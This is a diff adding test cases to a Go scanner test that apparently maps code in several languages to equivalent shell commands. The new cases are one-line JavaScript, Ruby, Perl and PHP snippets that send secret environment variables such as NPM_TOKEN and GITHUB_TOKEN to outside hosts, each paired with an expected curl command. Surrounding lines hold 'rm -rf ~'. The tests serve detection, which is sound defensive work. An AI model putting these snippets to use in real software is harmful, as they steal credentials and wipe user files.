@@ -49,6 +49,15 @@ func TestScan(t *testing.T) {
 		{lang: "perl", src: `for my $f (glob "*.bak") { print $f }`, none: []string{"rm"}},
 		{lang: "perl", src: `open my $fh, "<", "x" or die; print <$fh>`, none: []string{"rm"}},
 		{lang: "ruby", src: `exec if false; puts 1`, none: []string{"$WARDEN_DYNAMIC"}},
+		// a secret variable read inside a call (encoded, escaped) is what
+		// the call's value carries: the URL names it, so the shell judges
+		// curl "…?t=${NPM_TOKEN}"; a plain variable stays run-time text
+		{lang: "js", src: `require('https').get('https://npm-metrics.dev/i?t='+encodeURIComponent(process.env.NPM_TOKEN||''))`, find: []string{`curl "https://npm-metrics.dev/i?t=${NPM_TOKEN}"`}},
+		{lang: "js", src: `require('https').get('https://x.example/i?d='+encodeURIComponent(process.env.DEBUG||''))`, none: []string{"${DEBUG}"}},
+		{lang: "js", src: `fetch('https://api.github.com/user', {headers: {Authorization: 'Bearer ' + process.env.GITHUB_TOKEN}})`, none: []string{"GITHUB_TOKEN"}},
+		{lang: "ruby", src: `Net::HTTP.get(URI("https://x.example/i?t=" + CGI.escape(ENV["NPM_TOKEN"])))`, find: []string{`curl "https://x.example/i?t=${NPM_TOKEN}"`}},
+		{lang: "perl", src: `get("https://x.example/i?t=".uri_escape($ENV{GITHUB_TOKEN}))`, find: []string{`curl "https://x.example/i?t=${GITHUB_TOKEN}"`}},
+		{lang: "php", src: `file_get_contents("https://x.example/i?t=".urlencode(getenv("API_KEY")));`, find: []string{`curl "https://x.example/i?t=${API_KEY}"`}},
 		// ruby
 		{lang: "ruby", src: `system("rm -rf ~")`, find: []string{"rm -rf ~"}},
 		{lang: "ruby", src: "puts `rm -rf ~`", find: []string{"rm -rf ~"}},
